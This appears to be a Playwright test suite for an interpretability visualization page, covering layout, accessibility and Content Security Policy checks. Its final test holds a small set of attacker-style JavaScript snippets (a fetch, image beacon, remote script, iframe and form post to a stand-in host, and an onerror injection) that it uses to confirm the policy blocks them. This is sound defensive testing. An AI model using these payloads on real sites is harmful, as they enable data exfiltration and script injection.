"""Every tab of one page: what it asks of its reader, what axe finds, and what the page allows.

The tests go from the page as it opens to a page in which nothing more can be looked at.
"""

import pytest

from tests.slow import slow
from tests.ui.axe import AXE, SETTLED, findings
from tests.ui.conftest import UNFOLD, open_tab
from tests.ui.page_counts import counted

MOST = 25  # controls on a first screen
# What is drawn there, and the page's height at 1440 and at 390 pixels, so that it cannot grow.
PARTS = {
    "Explore": (".viz-how[data-painted]", 1150, 1960),
    "Vectors": ("#viz-hidden-similarity[data-painted]", 1100, 2250),
    "Vectors two": (".viz-pairs .viz-figure[data-painted]", 1230, 2300),
    "Vectors padding": (".viz-pool-padding[data-painted]", 900, 1200),
    "Vectors set": ("#viz-set .viz-pool[data-painted]", 1300, 2330),
    "Masks": (".viz-masks[data-painted]", 1220, 2330),
    "Masks paint": (".viz-mask-paint canvas", 1300, 2400),
    "Masks paint file": ("#viz-mask-verdict:not([hidden])", 1300, 2400),
    "Masks bugs": (".viz-zoo-audit[data-painted]", 1290, 2010),
    "Masks quiz": (".viz-zoo-answer", 1060, 1280),
    "Learn": (".viz-learn-question :is(input, button)", 900, 1600),
    "Corpus": (".viz-corpus[data-painted]", 1230, 2300),
}
DRAWN = {name: drawn for name, (drawn, *_) in PARTS.items()}
UNFOLDED = {
    "Explore": ".viz-atlas[data-painted]",
    "Vectors": ".viz-hidden-more .viz-figure[data-painted*=projection]",
}


# What an attacker would try, and the directive that keeps it from working.
TRIED = {
    "img-src": "new Image().src = 'https://elsewhere.test/x.png'",
    "connect-src": "fetch('https://elsewhere.test/').catch(() => 0)",
    "script-src-elem": "document.head.append(Object.assign(document.createElement('script'), "
    "{ src: 'https://elsewhere.test/x.js' }))",
    "frame-src": "document.body.append(Object.assign(document.createElement('iframe'), "
    "{ src: 'https://elsewhere.test/' }))",
    "script-src-attr": "document.body.insertAdjacentHTML('beforeend', "
    "'<img src=x: onerror=window.ran=1>')",
    "form-action": "{ const f = document.createElement('form'); f.action = "
    "'https://elsewhere.test/'; document.body.append(f); f.submit(); }",
}


@pytest.fixture(scope="module")
def opened(visit_once):
    """The page as a person finds it, on its answer."""
    opened = visit_once(height=900, opening=True, folded=True)
    opened.page.wait_for_selector(DRAWN["Explore"], timeout=60_000)
    return opened


def open_part(page, name):
    """A tab, and its part that is named after it: the first one else."""
    tab, part, *file = [*name.split(), ""]
    usual = {"Vectors": "one", "Masks": "check"}
    open_tab(page, tab, part or usual.get(tab, ""))
    if file[:-1]:
        rows = [",".join(str(key > query) for key in range(15)) for query in range(15)]
        sent = {"name": "mine.csv", "mimeType": "text/csv", "buffer": "\n".join(rows).encode()}
        page.wait_for_selector(DRAWN["Masks"], timeout=60_000)
        page.set_input_files("#viz-mask-file", sent)


@pytest.mark.parametrize("tab", DRAWN)
@pytest.mark.parametrize("width", [1440, slow(390)])
def test_a_tab_asks_no_more_of_its_reader(opened, tab, width):
    page = opened.page
    page.set_viewport_size({"width": 1440, "height": 900})  # where each tab has its button
    open_part(page, tab)
    page.wait_for_selector(DRAWN[tab], timeout=60_000)
    page.set_viewport_size({"width": width, "height": 900})
    page.wait_for_function(SETTLED)
    found = counted(page)
    assert found["faint"] == found["odd"] == [] and found["wide"] <= 0
    assert len(found["controls"]) <= MOST, found["controls"]
    assert found["small"] == []
    assert found["empty" if width == 1440 else "gaps"] == []
    assert found["height"] <= PARTS[tab][1 if width == 1440 else 2]
    if tab.endswith("file"):
        page.locator("#viz-mask-file-drop").dispatch_event("click")
        page.keyboard.press("Control+z")


def test_each_step_of_the_lesson_asks_no_more_of_its_reader(opened):
    page = opened.page
    page.set_viewport_size({"width": 1440, "height": 900})
    open_tab(page, "Learn")
    page.wait_for_selector(DRAWN["Learn"], timeout=60_000)
    for step in range(1, 13):
        page.evaluate(f"vizLearn.go({step})")
        page.wait_for_selector(f".viz-learn[data-painted$=':{step}']", timeout=60_000)
        page.wait_for_function(SETTLED)
        found = counted(page)
        assert len(found["controls"]) <= MOST, (step, found["controls"])
        assert found["small"] == [] and found["height"] <= 1200, step
    page.evaluate("vizLearn.switches.fold.open = true")
    assert counted(page)["small"] == []
    page.evaluate("vizLearn.go(1)")
    page.focus(".viz-learn-steps li:first-child button")  # the steps are one stop
    page.keyboard.press("ArrowRight")
    assert page.evaluate("document.activeElement.textContent").startswith("2")
    assert page.evaluate("vizLearn.step") == 1


def test_what_the_form_opens_can_be_hit_and_seen(opened):
    page = opened.page
    page.set_viewport_size({"width": 1440, "height": 900})
    fold = page.get_by_role("button", name="Open another model")
    page.get_by_role("combobox", name="Model", exact=True).click()
    models = page.get_by_role("listbox").bounding_box()
    for each in page.locator(".viz-example").all():  # which it does not cover
        box = each.bounding_box()
        assert box["x"] + box["width"] < models["x"]
    page.keyboard.press("Tab")
    page.get_by_role("listbox").wait_for(state="detached", timeout=5_000)
    fold.click()
    found = counted(page)
    fold.click()
    assert found["small"] == found["faint"] == []


def test_the_counts_see_what_they_count(opened):
    page = opened.page
    page.set_viewport_size({"width": 1440, "height": 900})
    open_tab(page, "Corpus")
    page.wait_for_selector(DRAWN["Corpus"], timeout=60_000)
    before = counted(page)
    page.evaluate(
        """() => {
          const one = (tag, style, text) => Object.assign(document.createElement(tag), {
            className: "planted", textContent: text,
            style: `position: absolute; left: 9px; ${style}` });
          document.querySelector(".viz-corpus").append(
            one("button", "top: 300px; width: 20px; height: 20px; font-size: 13px", "b"),
            one("input", "top: 330px; border: 1px solid #f1f5f9; height: 30px", ""),
            one("p", "position: static; margin-top: 400px", "end"),
          );
        }"""
    )
    after = counted(page)
    page.evaluate("() => document.querySelectorAll('.planted').forEach((one) => one.remove())")
    more = {name: len(after[name]) - len(before[name]) for name in ("small", "odd", "faint")}
    assert more == {"small": 1, "odd": 1, "faint": 1}
    assert len(after["controls"]) == len(before["controls"]) + 2
    assert len(after["empty"]) > len(before["empty"])
    assert len(after["gaps"]) == len(before["gaps"]) + 1
    assert after["height"] >= before["height"] + 400


def test_a_removal_moves_nothing_and_all_of_it_fits(opened):
    page = opened.page
    page.set_viewport_size({"width": 1440, "height": 900})
    open_tab(page, "Explore")
    page.evaluate("scrollTo(0, 0)")
    top = page.locator(".viz-cut").bounding_box()["y"]
    page.click("[data-cut=remove]")
    page.wait_for_selector(".viz-changed[data-painted]")
    page.wait_for_selector(".viz-how[data-painted*='against=run']")
    page.wait_for_selector(".viz-answer:not(.viz-behind)")
    assert page.evaluate("scrollY") == 0
    assert page.locator(".viz-cut").bounding_box()["y"] == top
    names = page.locator("#viz-tabs [role=tab] >> nth=4").bounding_box()
    banner = page.locator(".viz-changed").bounding_box()
    assert banner["x"] >= names["x"] + names["width"] and banner["y"] + banner["height"] <= top
    drawn = page.locator(".viz-map-canvas").bounding_box()
    assert drawn["y"] + drawn["height"] <= 900
    page.click("#viz-restore")
    page.wait_for_function("!vizTab.run.changed")


@pytest.fixture(scope="module")
def unfolded(opened):
    """The same page with all of its folds open, and axe in it."""
    page = opened.page
    page.set_viewport_size({"width": 1440, "height": 1000})
    page.evaluate(AXE.read_text("utf-8"))
    page.evaluate(f"() => {{ {UNFOLD}; dispatchEvent(new Event('DOMContentLoaded')); }}")
    return opened


@pytest.mark.parametrize("theme", ["light", slow("dark")])
def test_axe_finds_nothing_serious_on_any_tab(unfolded, theme):
    page, found = unfolded.page, []
    page.evaluate("dark => document.body.classList.toggle('dark', dark)", theme == "dark")
    for tab, drawn in (DRAWN | UNFOLDED).items():
        open_part(page, tab)
        if tab == "Vectors two":  # which is asked for once it is seen
            page.locator(".viz-pairs").scroll_into_view_if_needed()
        page.wait_for_selector(drawn, timeout=60_000)
        if tab == "Explore":  # a sentence with heads to click on
            page.fill("#viz-find", "previous token over 0.3")
            page.wait_for_selector(".viz-found-head", timeout=60_000)
        page.wait_for_selector(".viz-behind:visible", state="detached", timeout=60_000)
        page.wait_for_function(SETTLED)
        last = theme == "dark" and tab == [*DRAWN][-1]
        panels = "all" if last else "shown"  # once with all that has been drawn
        found += [f"{tab}: {told}" for told in findings(page, panels)]
    assert not found, "\n".join(found)
    assert unfolded.faults == []


def test_no_tab_needs_more_than_is_allowed_and_all_else_is_stopped(unfolded):
    page, faults = unfolded.page, unfolded.faults  # anything that the console has reported
    open_tab(page, "Explore")
    page.click("text=Any view as a Plotly figure")
    page.wait_for_selector(".viz-any .main-svg", state="attached")
    assert faults == []
    page.evaluate(
        "addEventListener('securitypolicyviolation', "
        "e => (window.violated ??= []).push(e.effectiveDirective))"
    )
    for directive, attempt in TRIED.items():
        page.evaluate(f"() => {{ {attempt} }}")
        page.wait_for_function("name => window.violated?.includes(name)", arg=directive)
    assert page.evaluate("window.ran === undefined")
    assert sum("Content Security Policy" in said for said in faults) >= len(TRIED)
    faults.clear()
